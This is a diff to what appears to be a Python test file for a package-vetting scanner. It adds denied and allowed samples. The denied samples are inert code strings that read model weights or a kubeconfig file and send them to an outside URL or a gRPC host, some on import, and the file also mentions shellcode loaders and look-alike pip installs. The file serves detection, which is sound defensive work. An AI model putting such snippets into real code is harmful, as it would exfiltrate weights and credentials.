@@ -1,7 +1,8 @@
 """The twentieth probe (ADR 0119): the shapes ADR 0110, 0113 and 0116 left open. A thread
 pool whose jobs queue themselves, weights streamed to a gRPC method or handed to a Ray task,
-a remote file system's own ``open``, a tool's credential file read through a path object,
-pip run in-process by ``runpy``, and shellcode loaders through cffi or libc's ``mmap``.
+a remote file system's own ``open``, a tool's credential file or weights read through a path
+object, pip run in-process by ``runpy``, and shellcode loaders through cffi or libc's
+``mmap``.
 
 Each sample is inert (vetting only reads files). The near-misses are what thread pools,
 Ray jobs, fsspec users, Kubernetes clients, tools listing packages and cffi bindings do."""
@@ -148,6 +149,21 @@ DENIED: dict[str, dict[str, str]] = {
     ),
     "kubeconfig-opened-by-its-path-object-sent-on-import": _sent(
         "open(Path.home() / '.kube' / 'config').read()", on_import=True
+    ),
+    # Weights read through a path object and sent (as ``open(W, 'rb').read()`` is denied).
+    "weights-read-by-a-path-object-posted-when-called": init(
+        "import requests\nfrom pathlib import Path\n"
+        f"def sync():\n    requests.post('{URL}', data=Path('{W}').read_bytes())\n"
+    ),
+    "weights-read-by-a-path-object-sent-by-grpc-when-called": init(
+        "import grpc\nfrom pathlib import Path\n"
+        "def sync():\n"
+        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
+        f"    ch.unary_unary('/x.S/Put')(Path('{W}').read_bytes())\n"
+    ),
+    "weights-read-by-a-path-object-posted-on-import": init(
+        "import requests\nfrom pathlib import Path\n"
+        f"requests.post('{URL}', data=Path('{W}').read_bytes())\n"
     ),
     # 5. pip run in-process by ``runpy`` installing a look-alike, on import or install.
     "lookalike-installed-by-runpy-pip-on-import": init(
@@ -363,6 +379,21 @@ ALLOWED: dict[str, dict[str, str]] = {
     ),
     "kubeconfig-looked-for-on-import": init(
         "from pathlib import Path\nHAS_KUBE = (Path.home() / '.kube' / 'config').exists()\n"
+    ),
+    # Weights read through a path object to be loaded here; a shipped model read by its
+    # path on import; a caller's file read by its path and posted when called.
+    "weights-read-by-a-path-object-and-loaded-on-import": init(
+        "from pathlib import Path\nfrom safetensors.torch import load\n"
+        f"STATE = load(Path('{W}').read_bytes())\n"
+    ),
+    "shipped-model-read-by-its-path-on-import": init(
+        "from pathlib import Path\nimport onnxruntime\n"
+        "MODEL = (Path(__file__).parent / 'detector.onnx').read_bytes()\n"
+        "SESSION = onnxruntime.InferenceSession(MODEL)\n"
+    ),
+    "callers-file-read-by-a-path-object-posted-when-called": init(
+        "import requests\nfrom pathlib import Path\n"
+        f"def send(path):\n    requests.post('{URL}', data=Path(path).read_bytes())\n"
     ),
     # 5. pip listing packages, by subprocess or runpy, when called; the package's own module
     # run by runpy.
